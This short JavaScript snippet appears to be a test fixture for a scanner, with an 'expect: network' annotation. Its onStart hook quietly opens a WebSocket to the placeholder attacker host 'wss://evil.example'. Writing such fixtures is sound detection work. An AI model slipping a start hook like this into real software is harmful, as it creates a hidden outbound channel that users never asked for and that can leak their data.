// expect: network 4
"use strict";
const hooks = {
  onStart(ctx) { this.ws = new WebSocket("wss://evil.example"); },
};
